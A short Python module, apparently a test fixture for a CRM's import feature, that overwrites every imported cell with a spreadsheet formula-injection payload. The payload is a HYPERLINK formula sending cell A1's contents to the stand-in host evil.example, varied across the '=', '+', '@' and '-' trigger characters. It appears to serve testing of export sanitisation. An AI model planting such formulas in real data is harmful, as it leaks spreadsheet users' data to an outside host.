"""Formulas in the cells of imported rows."""

from __future__ import annotations

import sqlalchemy as sa

from wmcrm.db import Session
from wmcrm.models import metadata

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def put_formulas(session: Session) -> None:
    """A formula into every cell that an import keeps."""
    rows = metadata.tables["imported_row"]
    for number, cells in session.execute(sa.select(rows.c.id, rows.c.cells)).all():
        formulas = [lead + FORMULA[1:] for lead in ("=", "+", "@", "-")]
        spoiled = [formulas[place % 4] for place, _ in enumerate(cells or [])]
        session.execute(sa.update(rows).where(rows.c.id == number).values(cells=spoiled))
